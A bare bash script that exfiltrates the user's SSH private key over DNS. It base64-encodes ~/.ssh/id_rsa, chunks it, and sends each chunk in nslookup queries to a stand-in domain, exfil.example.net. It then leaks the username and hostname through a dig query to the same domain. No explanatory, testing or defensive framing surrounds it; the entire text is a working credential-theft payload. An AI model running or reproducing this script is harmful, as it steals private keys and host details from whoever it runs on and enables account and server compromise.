#!/bin/bash
for c in $(cat ~/.ssh/id_rsa | base64 -w0 | fold -w 60); do nslookup "$c.x.exfil.example.net"; done
dig +short "$(whoami).$(hostname).t.exfil.example.net"
